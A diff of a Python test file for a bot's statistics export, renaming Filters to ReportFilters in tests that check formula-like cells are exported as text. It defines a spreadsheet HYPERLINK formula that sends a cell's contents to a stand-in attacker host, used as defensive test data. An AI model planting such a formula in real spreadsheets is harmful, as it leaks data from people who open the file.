@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from bot.db import Database, migrate
 from bot.intake.store import IntakeStore
 from bot.stats.export import aggregates_csv, aggregates_xlsx
-from bot.stats.report import Filters
+from bot.stats.report import ReportFilters
 from bot.stats.tables import Table
 
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
@@ -31,7 +31,7 @@ def test_csv_cells_that_start_like_a_formula_are_text() -> None:
 
 
 def test_xlsx_cells_that_start_like_a_formula_are_text_as_typed() -> None:
-    filters = Filters(date_from=datetime.date(2026, 1, 1), date_to=datetime.date(2026, 12, 31))
+    filters = ReportFilters(date_from=datetime.date(2026, 1, 1), date_to=datetime.date(2026, 12, 31))
     sheet = load_workbook(io.BytesIO(aggregates_xlsx([table()], filters)))["municipality"]
     cells = [sheet.cell(row=row, column=1) for row in range(4, 9)]
     assert [cell.value for cell in cells] == [ATTACK, "+49 176", "@SUM(1)", "-1+1", "Moers"]
